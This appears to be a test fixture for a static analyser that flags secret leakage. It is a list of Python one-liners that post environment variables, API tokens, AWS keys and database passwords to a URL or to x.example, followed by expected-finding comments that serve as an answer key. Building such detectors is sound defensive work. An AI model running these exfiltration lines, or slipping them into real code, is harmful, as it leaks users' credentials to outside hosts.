import os, json, requests, httpx, aiohttp, base64, urllib.request, urllib.parse
from urllib.request import urlopen, Request
requests.post(u, json=dict(os.environ))
requests.get(u + os.environ['AWS_SECRET_ACCESS_KEY'])
requests.get(u, params={'k': os.getenv('API_TOKEN')})
requests.post(u, data=json.dumps({k: v for k, v in os.environ.items()}))
httpx.post(u, content=base64.b64encode(str(os.environ).encode()))
urlopen(Request(u, data=urllib.parse.urlencode(dict(os.environ)).encode()))
s = requests.Session()
s.post(u, data={'token': os.environ.get('GITHUB_TOKEN')})
body = '\n'.join(f'{k}={v}' for k, v in os.environ.items())
requests.post(u, data=body)
requests.get(u, headers=dict(os.environ))
requests.get(f'https://x.example/{os.environ["DB_PASSWORD"]}')
requests.post(u, json=os.environ.copy())
key = os.environ['SECRET_KEY']
def send(x): requests.post(u, data=x)
send(key)
requests.post(u, json={'env': {**os.environ}})
requests.post(u, files={'f': open('/proc/self/environ')})
import http.client
c = http.client.HTTPSConnection('x.example'); c.request('POST', '/', body=json.dumps(dict(os.environ)))
c.send(json.dumps(dict(os.environ)).encode())
c.request('GET', '/', headers={'Authorization': os.environ['API_TOKEN']})
c.putheader('Authorization', os.environ['API_TOKEN'])
with httpx.Client() as h: h.post(u, json=dict(os.environ))
async def post():
    async with aiohttp.ClientSession() as cs, cs.post(u, json=dict(os.environ)) as answer: pass
# expect 3 any.secret-sent
# expect 4 any.secret-sent
# expect 5 any.secret-sent
# expect 6 any.secret-sent
# expect 7 any.secret-sent
# expect 8 any.secret-sent
# expect 10 any.secret-sent
# expect 12 any.secret-sent
# expect 13 any.secret-sent
# expect 14 any.secret-sent
# expect 15 any.secret-sent
# expect 17 any.secret-sent
# expect 19 any.secret-sent
# expect 20 any.credentials
# expect 22 any.secret-sent
# expect 23 any.secret-sent
# expect 26 any.secret-sent
# expect 28 any.secret-sent
